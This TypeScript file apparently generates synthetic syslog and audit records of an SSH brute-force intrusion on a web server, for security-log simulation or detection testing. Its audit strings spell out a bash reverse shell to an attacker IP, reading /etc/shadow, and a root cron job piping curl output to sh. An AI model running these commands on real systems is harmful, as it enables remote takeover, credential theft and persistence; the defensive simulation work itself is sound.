import { company } from '../company.ts';
import { auditRecord, syslogLine } from '../linux-record.ts';
import type { Random } from '../random.ts';
import type { SimulatedRecord } from '../record.ts';

/** Password guessing on a web server succeeds; then a reverse shell, /etc/shadow and a cron entry to stay. */
export function sshToShell(random: Random, startMs: number): SimulatedRecord[] {
  const host = 'shop-web-2';
  const from = company.attackerIps[1];
  const records: SimulatedRecord[] = [];
  let timeMs = startMs;
  for (let i = 0; i < 40; i++) {
    timeMs += random.integer(400, 2_500);
    const user = random.pick(['root', 'admin', 'deploy', 'postgres', 'ubuntu']);
    const port = random.integer(30_000, 60_000);
    const isKnown = user === 'root' || user === 'deploy';
    const message = `Failed password for ${isKnown ? '' : 'invalid user '}${user} from ${from} port ${port} ssh2`;
    records.push(syslogLine(timeMs, host, 'sshd', 4_000 + i, message));
  }
  timeMs += 3_000;
  records.push(
    syslogLine(timeMs, host, 'sshd', 4_100, `Accepted password for deploy from ${from} port 44122 ssh2`),
  );
  const audit = (type: string, body: string): void => {
    timeMs += random.integer(4_000, 15_000);
    records.push(auditRecord(timeMs, host, random.integer(900_001, 999_999), type, body));
  };
  audit('EXECVE', `argc=3 a0="bash" a1="-c" a2="bash -i >& /dev/tcp/${from}/4444 0>&1"`);
  audit('PATH', 'item=0 name="/etc/shadow" inode=1311 dev=08:01 mode=0100640 ouid=0 ogid=42 nametype=NORMAL');
  audit('EXECVE', 'argc=3 a0="cat" a1="/etc/shadow" a2="/etc/passwd"');
  audit(
    'EXECVE',
    `argc=3 a0="sh" a1="-c" a2="echo '* * * * * root curl http://${from}/k|sh' >> /etc/cron.d/logs"`,
  );
  audit(
    'PATH',
    'item=1 name="/etc/cron.d/logs" inode=2201 dev=08:01 mode=0100644 ouid=0 ogid=0 nametype=CREATE',
  );
  return records;
}
